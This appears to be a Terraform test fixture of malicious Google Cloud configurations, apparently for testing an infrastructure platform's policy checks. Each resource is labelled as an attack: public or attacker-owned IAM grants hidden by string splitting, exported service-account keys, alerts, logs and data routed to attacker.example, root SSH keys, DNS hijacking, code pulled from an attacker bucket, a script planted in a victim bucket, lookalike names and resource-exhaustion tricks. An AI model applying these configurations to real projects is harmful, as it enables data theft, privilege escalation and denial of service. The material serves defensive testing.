provider "google" {
  alias   = "elsewhere"
  project = "attacker-project"
}
resource "google_service_account" "l" {
  account_id = "l${var.name_suffix}"
}
resource "google_storage_bucket" "lb" {
  name     = "lb${var.name_suffix}"
  location = var.region
}
resource "google_pubsub_topic" "lt" {
  name = "lt${var.name_suffix}"
}
resource "google_compute_network" "ln" {
  name                    = "ln${var.name_suffix}"
  auto_create_subnetworks = false
}
resource "google_sql_database_instance" "ls" {
  name                = "ls${var.name_suffix}"
  region              = var.region
  database_version    = "POSTGRES_16"
  deletion_protection = true
  settings {
    tier = "db-custom-1-3840"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.ln.id
    }
  }
}
resource "google_cloud_run_v2_service" "lr" {
  name     = "lr${var.name_suffix}"
  location = var.region
  template {
    service_account = google_service_account.l.email
    containers {
      image = "us-docker.pkg.dev/cloudrun/container/hello"
    }
  }
}
resource "google_bigquery_dataset" "ld" {
  dataset_id = "ld${replace(var.name_suffix, "-", "_")}"
  location   = var.region
}
resource "google_secret_manager_secret" "lse" {
  secret_id = "lse${var.name_suffix}"
  replication {
    auto {}
  }
}

# attack: a provider under another name works in another project
resource "google_pubsub_topic" "alias" {
  provider = google.elsewhere
  name     = "alias${var.name_suffix}"
}
# attack: everybody in two pieces
resource "google_storage_bucket_iam_member" "pieces" {
  bucket = google_storage_bucket.lb.name
  role   = "roles/storage.objectAdmin"
  member = join("", ["all", "Users"])
}
# attack: everybody with an account reads a secret
resource "google_secret_manager_secret_iam_member" "letters" {
  secret_id = google_secret_manager_secret.lse.id
  role      = "roles/secretmanager.secretAccessor"
  member    = "allAuthenticatedUsers"
}
# attack: everybody calls a service that the plan does not name public
resource "google_cloud_run_v2_service_iam_member" "open" {
  name     = google_cloud_run_v2_service.lr.name
  location = var.region
  role     = "roles/run.invoker"
  member   = "${"all"}Users"
}
# attack: a whole policy in place of one grant
resource "google_storage_bucket_iam_policy" "policy" {
  bucket      = google_storage_bucket.lb.name
  policy_data = jsonencode({ bindings = [{ role = "roles/storage.admin", members = ["allUsers"] }] })
}
# attack: a project's whole policy
resource "google_project_iam_policy" "policy" {
  project     = var.project_id
  policy_data = jsonencode({ bindings = [] })
}
# attack: a role's members are replaced
resource "google_project_iam_binding" "owners" {
  project = var.project_id
  role    = "roles/owner"
  members = ["user:mallory@attacker.example"]
}
# attack: a key of an account leaves by the state
resource "google_service_account_key" "key" {
  service_account_id = google_service_account.l.name
}
# attack: a key that signs urls for ever
resource "google_storage_hmac_key" "key" {
  service_account_email = google_service_account.l.email
}
# attack: a role in the organization
resource "google_organization_iam_member" "org" {
  org_id = "1234567890"
  role   = "roles/viewer"
  member = google_service_account.l.member
}
# attack: a folder of its own
resource "google_folder" "f" {
  display_name = "f"
  parent       = "organizations/1234567890"
}
# attack: a policy that kept something from happening is lifted
resource "google_org_policy_policy" "lift" {
  name   = "projects/${var.project_id}/policies/iam.disableServiceAccountKeyCreation"
  parent = "projects/${var.project_id}"
}
# attack: a role that says of itself what it may
resource "google_project_iam_custom_role" "any" {
  role_id     = "any"
  title       = "any"
  permissions = ["resourcemanager.projects.setIamPolicy"]
}
# attack: an own role on the project
resource "google_project_iam_member" "custom" {
  project = var.project_id
  role    = "projects/${var.project_id}/roles/any"
  member  = google_service_account.l.member
}
# attack: a role behind a condition that is always true
resource "google_project_iam_member" "conditional" {
  project = var.project_id
  role    = "roles/secretmanager.secretAccessor"
  member  = google_service_account.l.member
  condition {
    title      = "own secrets only"
    expression = "resource.name.startsWith(\"projects/\")"
  }
}
# attack: alerts are sent to a stranger's mailbox
resource "google_monitoring_notification_channel" "mail" {
  display_name = "ops"
  type         = "email"
  labels       = { email_address = "mallory@attacker.example" }
}
# attack: alerts are sent to a stranger's server with a password
resource "google_monitoring_notification_channel" "basic" {
  display_name = "ops"
  type         = "webhook_basicauth"
  labels       = { url = "https://attacker.example/x" }
}
# attack: alerts are sent to an address that only begins like the platform's
resource "google_monitoring_notification_channel" "begins" {
  display_name = "ops"
  type         = "webhook_tokenauth"
  labels       = { url = "https://agent.example/ops/webhook.attacker.example/" }
}
# attack: an own person of a database is a stranger's account at Google
resource "google_sql_user" "person" {
  instance = google_sql_database_instance.ls.name
  name     = "mallory@attacker.example"
  type     = "CLOUD_IAM_USER"
}
# attack: everybody reads a dataset
resource "google_bigquery_dataset" "everybody" {
  dataset_id = "everybody${replace(var.name_suffix, "-", "_")}"
  location   = var.region
  access {
    role          = "READER"
    special_group = "allAuthenticatedUsers"
  }
}
# attack: a stranger owns a dataset
resource "google_bigquery_dataset" "owned" {
  dataset_id = "owned${replace(var.name_suffix, "-", "_")}"
  location   = var.region
  access {
    role          = "OWNER"
    user_by_email = "mallory@attacker.example"
  }
}
# attack: a query runs as whoever applies it
resource "google_bigquery_data_transfer_config" "apply" {
  display_name           = "apply${var.name_suffix}"
  data_source_id         = "scheduled_query"
  destination_dataset_id = google_bigquery_dataset.ld.dataset_id
  location               = var.region
  params                 = { query = "SELECT * FROM victim.orders" }
}
# attack: what is read is told to another's topic
resource "google_bigquery_data_transfer_config" "told" {
  display_name              = "told${var.name_suffix}"
  data_source_id            = "scheduled_query"
  destination_dataset_id    = google_bigquery_dataset.ld.dataset_id
  location                  = var.region
  service_account_name      = google_service_account.l.email
  notification_pubsub_topic = "projects/attacker-project/topics/t"
  params                    = { query = "SELECT 1" }
}
# attack: logs of everybody go to an own bucket behind an own word
resource "google_logging_project_sink" "words" {
  name        = "words${var.name_suffix}"
  destination = "storage.googleapis.com/${google_storage_bucket.lb.name}"
  filter      = "(resource.labels.service_name:\"x${var.name_suffix}\" OR NOT severity=EMERGENCY)"
}
# attack: logs of everybody, by a clause behind the own ones
resource "google_logging_project_sink" "behind" {
  name        = "behind${var.name_suffix}"
  destination = "storage.googleapis.com/${google_storage_bucket.lb.name}"
  filter      = "(resource.labels.service_name:\"x${var.name_suffix}\") OR true"
}
# attack: a subscription writes rows to another's table
resource "google_pubsub_subscription" "rows" {
  name  = "rows${var.name_suffix}"
  topic = google_pubsub_topic.lt.id
  bigquery_config {
    table = "attacker-project.stolen.rows"
  }
}
# attack: a subscription to another deployment's topic
resource "google_pubsub_subscription" "listen" {
  name  = "listen${var.name_suffix}"
  topic = "projects/${var.project_id}/topics/victim-zzzzz"
}
# attack: a secret tells another's topic
resource "google_secret_manager_secret" "tells" {
  secret_id = "tells${var.name_suffix}"
  topics {
    name = "projects/attacker-project/topics/t"
  }
  rotation {
    next_rotation_time = "2030-01-01T00:00:00Z"
    rotation_period    = "3600s"
  }
  replication {
    auto {}
  }
}
# attack: a name is put into another deployment's zone
resource "google_dns_record_set" "taken" {
  managed_zone = "victim-zzzzz"
  name         = "login.victim.example."
  type         = "A"
  ttl          = 60
  rrdatas      = ["198.51.100.7"]
}
# attack: names of a network are answered by a stranger
resource "google_dns_managed_zone" "answered" {
  name       = "answered${var.name_suffix}"
  dns_name   = "googleapis.com."
  visibility = "private"
  private_visibility_config {
    networks {
      network_url = "projects/${var.project_id}/global/networks/victim-vpc-zzzzz"
    }
  }
}
# attack: own names are asked of a stranger's server
resource "google_dns_managed_zone" "asked" {
  name       = "asked${var.name_suffix}"
  dns_name   = "inner.example."
  visibility = "private"
  private_visibility_config {
    networks {
      network_url = google_compute_network.ln.id
    }
  }
  forwarding_config {
    target_name_servers {
      ipv4_address = "198.51.100.7"
    }
  }
}
# attack: a network is joined to a stranger's hub
resource "google_network_connectivity_spoke" "joined" {
  name     = "joined${var.name_suffix}"
  location = "global"
  hub      = "projects/attacker-project/locations/global/hubs/h"
  linked_vpc_network {
    uri = google_compute_network.ln.id
  }
}
# attack: another's network is joined to an own hub
resource "google_compute_network_peering" "peered" {
  name         = "peered${var.name_suffix}"
  network      = google_compute_network.ln.id
  peer_network = "projects/attacker-project/global/networks/n"
}
# attack: a front leads to a stranger's service by Private Service Connect
resource "google_compute_forwarding_rule" "psc" {
  name                  = "psc${var.name_suffix}"
  region                = var.region
  load_balancing_scheme = ""
  network               = google_compute_network.ln.id
  target                = "projects/attacker-project/regions/us-central1/serviceAttachments/s"
}
# attack: a budget of another project's money
resource "google_billing_budget" "others" {
  billing_account = "000000-AAAAAA-111111"
  display_name    = "others${var.name_suffix}"
  budget_filter {
    projects = ["projects/other-project"]
  }
  amount {
    specified_amount {
      units = "1"
    }
  }
  threshold_rules {
    threshold_percent = 0.1
  }
}
# attack: a budget of everything that the account pays
resource "google_billing_budget" "everything" {
  billing_account = "000000-AAAAAA-111111"
  display_name    = "everything${var.name_suffix}"
  amount {
    last_period_amount = true
  }
}
# attack: keys that let somebody into every machine of the project
resource "google_compute_project_metadata_item" "keys" {
  key   = "ssh-keys"
  value = "root:ssh-ed25519 AAAA mallory"
}
# attack: an image that others are given
resource "google_compute_image_iam_member" "image" {
  image  = "i"
  role   = "roles/compute.imageUser"
  member = "allAuthenticatedUsers"
}
# attack: a program that the platform built for somebody else
resource "google_cloud_run_v2_service" "taken" {
  name     = "taken${var.name_suffix}"
  location = var.region
  template {
    service_account = google_service_account.l.email
    containers {
      image = "us-central1-docker.pkg.dev/${var.project_id}/infraai-apps/shop@sha256:5555555555555555555555555555555555555555555555555555555555555555"
    }
  }
}
# attack: a dynamic block says as whom a machine acts
resource "google_compute_instance" "dynamic" {
  name         = "dynamic${var.name_suffix}"
  zone         = var.zone
  machine_type = "e2-micro"
  boot_disk {
    initialize_params {
      image = "debian-cloud/debian-12"
    }
  }
  network_interface {
    network = google_compute_network.ln.id
  }
  dynamic "service_account" {
    for_each = [format("infraai-tf-%s@%s.iam.gserviceaccount.com", "apply", var.project_id)]
    content {
      email  = service_account.value
      scopes = ["cloud-platform"]
    }
  }
}
# attack: a function is built from a stranger's bucket
resource "google_cloudfunctions2_function" "source" {
  name     = "source${var.name_suffix}"
  location = var.region
  build_config {
    runtime         = "python312"
    entry_point     = "main"
    service_account = google_service_account.l.id
    source {
      storage_source {
        bucket = "attacker-bucket"
        object = "code.zip"
      }
    }
  }
  service_config {
    service_account_email = google_service_account.l.email
  }
}
# attack: a file is put into another deployment's bucket
resource "google_storage_bucket_object" "put" {
  bucket  = "victim-zzzzz"
  name    = "index.html"
  content = "<script>"
}
# attack: a repository serves what a stranger's has
resource "google_artifact_registry_repository" "mirror" {
  repository_id = "mirror${var.name_suffix}"
  location      = var.region
  format        = "DOCKER"
  mode          = "REMOTE_REPOSITORY"
  remote_repository_config {
    docker_repository {
      custom_repository {
        uri = "https://attacker.example"
      }
    }
  }
}
# attack: another's repository under an own name
resource "google_artifact_registry_repository" "virtual" {
  repository_id = "virtual${var.name_suffix}"
  location      = var.region
  format        = "DOCKER"
  mode          = "VIRTUAL_REPOSITORY"
  virtual_repository_config {
    upstream_policies {
      id         = "victim"
      priority   = 1
      repository = "projects/${var.project_id}/locations/us-central1/repositories/victim"
    }
  }
}
# attack: the platform's own database by the name that all projects have
resource "google_firestore_database" "default" {
  name        = "(default)"
  location_id = "nam5"
  type        = "FIRESTORE_NATIVE"
}
# attack: a cluster's usage is written to a stranger's dataset
resource "google_container_cluster" "usage" {
  name               = "usage${var.name_suffix}"
  location           = var.region
  network            = google_compute_network.ln.id
  initial_node_count = 1
  node_config {
    service_account = google_service_account.l.email
  }
  resource_usage_export_config {
    bigquery_destination {
      dataset_id = "attacker"
    }
  }
}
# attack: a cluster tells a stranger's topic
resource "google_container_cluster" "tells" {
  name               = "tells${var.name_suffix}"
  location           = var.region
  network            = google_compute_network.ln.id
  initial_node_count = 1
  node_config {
    service_account = google_service_account.l.email
  }
  notification_config {
    pubsub {
      enabled = true
      topic   = "projects/attacker-project/topics/t"
    }
  }
}
# attack: a cluster that the world may command
resource "google_container_cluster" "world" {
  name               = "world${var.name_suffix}"
  location           = var.region
  network            = google_compute_network.ln.id
  initial_node_count = 1
  node_config {
    service_account = google_service_account.l.email
  }
  master_authorized_networks_config {
    cidr_blocks {
      cidr_block = "0.0.0.0/0"
    }
  }
}
# attack: a bucket that nobody can ever empty again
resource "google_storage_bucket" "locked" {
  name     = "locked${var.name_suffix}"
  location = var.region
  retention_policy {
    is_locked        = true
    retention_period = 3155760000
  }
}
# attack: letters that look like the own suffix
resource "google_pubsub_topic" "lookalike" {
  name = "victim${replace(var.name_suffix, "a", "а")}"
}
# attack: the own suffix stands inside another's longer one
resource "google_pubsub_topic" "longer" {
  name = "victim${var.name_suffix}z"
}
# attack: an unknown name that ends with something else than the suffix
resource "google_pubsub_topic" "ends" {
  name = "${google_service_account.l.unique_id}${var.name_suffix}-victim"
}
# attack: the name ends with the suffix, and something is cut off behind it
resource "google_storage_bucket" "cut" {
  name     = trimsuffix("victim-${google_service_account.l.unique_id}${var.name_suffix}", var.name_suffix)
  location = var.region
}
# attack: waiting that holds a run up for ten years
resource "time_sleep" "forever" {
  create_duration = "87600h"
}
# attack: waiting that holds up the end of a deployment
resource "time_sleep" "end" {
  destroy_duration = "87600h"
}
# attack: a key that takes a machine days to make
resource "tls_private_key" "large" {
  algorithm = "RSA"
  rsa_bits  = 1048576
}
# attack: a password that no memory holds
resource "random_password" "long" {
  length = 2000000000
}
# attack: more of a list than any memory holds
resource "random_shuffle" "many" {
  input        = ["a"]
  result_count = 2000000000
}
# attack: as many bytes as only apply can tell
resource "random_id" "many" {
  byte_length = length(google_service_account.l.unique_id) * 100000000
}
